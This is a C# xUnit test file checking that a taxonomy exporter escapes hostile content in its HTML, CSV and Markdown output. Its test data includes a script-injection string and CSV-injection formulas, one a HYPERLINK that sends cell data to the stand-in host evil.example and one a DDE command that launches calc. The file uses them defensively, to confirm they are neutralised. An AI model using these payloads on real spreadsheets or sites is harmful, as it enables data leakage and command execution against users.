using System;
using System.Linq;
using RoleTaxonomy.Export;
using Xunit;

namespace RoleTaxonomy.Tests;

/// <summary>
/// The text exports on hostile content: markup, quotes, separators and spreadsheet formulas in the content must come
/// out as text, never as structure. Checked on the raw output, not on what a decoder makes of it, against expected
/// text written out by hand.
/// </summary>
public sealed class ExportEscapingTests
{
    private const string Hostile = "<script>alert(\"x\")</script> & 'q' | a, b";

    /// <summary>The packaged taxonomy with its first role and that role's first task pattern rewritten.</summary>
    private static TaxonomyDocument WithFirstRole(Func<RoleDocument, RoleDocument> role, Func<TaskPatternDocument, TaskPatternDocument> pattern)
    {
        var document = TaxonomyExport.CreateDocument();
        var first = role(document.Roles[0]);
        first = first with { TaskPatterns = new[] { pattern(first.TaskPatterns[0]) }.Concat(first.TaskPatterns.Skip(1)).ToArray() };
        return document with { Roles = new[] { first }.Concat(document.Roles.Skip(1)).ToArray() };
    }

    /// <summary>Markup, quotes and separators in the role's name, the first pattern's title and every column of the comparison table.</summary>
    private static TaxonomyDocument HostileDocument() => WithFirstRole(
        role => role with
        {
            Name = Hostile,
            CenterOfGravity = "left | right",
            TypicalOutputs = new[] { "a | b", "<i>c</i>" },
            FailureModes = new[] { "d | e" },
        },
        pattern => pattern with { Title = Hostile, Key = "hostile-pattern" });

    [Fact]
    public void Html_encodes_markup_ampersands_and_quotes_in_the_raw_text()
    {
        var html = TaxonomyExport.ToHtml(HostileDocument());

        Assert.DoesNotContain("<script>", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<i>", html, StringComparison.Ordinal);
        Assert.Contains("\n<h3 id=\"hostile-pattern\">1. &lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &#39;q&#39; | a, b</h3>\n", html, StringComparison.Ordinal);
        Assert.Contains(
            "\n<tr><td><a href=\"#appsec-engineer\">&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &#39;q&#39; | a, b</a></td>"
            + "<td>left | right</td><td>a | b, &lt;i&gt;c&lt;/i&gt;</td><td>d | e</td></tr>\n",
            html,
            StringComparison.Ordinal);
        Assert.Equal(1, html.Split("<table>").Length - 1);
    }

    [Fact]
    public void Csv_quotes_fields_with_separators_and_doubles_their_quotes()
    {
        var csv = TaxonomyExport.ToTaskPatternCsv(HostileDocument());
        var row = csv.Split("\r\n").Single(line => line.Contains("hostile-pattern", StringComparison.Ordinal));

        Assert.Equal("appsec-engineer,hostile-pattern,\"<script>alert(\"\"x\"\")</script> & 'q' | a, b\",weakness-classes/ssrf;weakness-classes/idor;"
            + "weakness-classes/injection;weakness-classes/file-abuse;weakness-classes/information-disclosure", row);
    }

    [Fact]
    public void Markdown_escapes_a_pipe_in_every_comparison_table_cell()
    {
        var markdown = TaxonomyExport.ToMarkdown(HostileDocument());
        var row = markdown.Split('\n').Single(line => line.StartsWith("| <script>", StringComparison.Ordinal));

        Assert.Equal(@"| <script>alert(""x"")</script> & 'q' \| a, b | left \| right | a \| b, <i>c</i> | d \| e |", row);
    }

    // CSV injection (OWASP, https://owasp.org/www-community/attacks/CSV_Injection): a spreadsheet reads a cell that
    // starts with =, +, -, @, a tab or a carriage return as a formula. Such a cell is quoted, with a ' inside the
    // quotes before its text, so that the spreadsheet shows it as text.

    [Theory]
    [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")", "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Open\"\")\"")]
    [InlineData("=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\"")]
    [InlineData("+1+1", "\"'+1+1\"")]
    [InlineData("-1+1", "\"'-1+1\"")]
    [InlineData("@SUM(1,1)", "\"'@SUM(1,1)\"")]
    [InlineData("\t=1+1", "\"'\t=1+1\"")]
    [InlineData("\r=1+1", "\"'\r=1+1\"")]
    public void Csv_neutralizes_a_cell_that_a_spreadsheet_would_read_as_a_formula(string title, string cell)
    {
        var csv = TaxonomyExport.ToTaskPatternCsv(WithFirstRole(role => role, pattern => pattern with { Title = title }));

        Assert.StartsWith(
            "role,key,title,references\r\nappsec-engineer,appsec-code-and-design-review," + cell + ",weakness-classes/ssrf;",
            csv,
            StringComparison.Ordinal);
    }

    [Fact]
    public void Csv_neutralizes_formulas_in_every_column()
    {
        var document = WithFirstRole(
            role => role,
            pattern => pattern with
            {
                Role = "=1+1",
                Key = "-1",
                Title = "@A1",
                References = new[] { new MemberReferenceDocument("+v", "m"), new MemberReferenceDocument("w", "=n") },
            });

        var row = TaxonomyExport.ToTaskPatternCsv(document).Split("\r\n")[1];

        Assert.Equal("\"'=1+1\",\"'-1\",\"'@A1\",\"'+v/m;w/=n\"", row);
    }

    [Theory]
    [InlineData("1-1")]
    [InlineData("a=1+1")]
    [InlineData("'=1+1")]
    [InlineData("")]
    public void Csv_leaves_a_cell_as_it_is_when_it_does_not_start_a_formula(string title)
    {
        var csv = TaxonomyExport.ToTaskPatternCsv(WithFirstRole(role => role, pattern => pattern with { Title = title }));

        Assert.StartsWith(
            "role,key,title,references\r\nappsec-engineer,appsec-code-and-design-review," + title + ",weakness-classes/ssrf;",
            csv,
            StringComparison.Ordinal);
    }
}
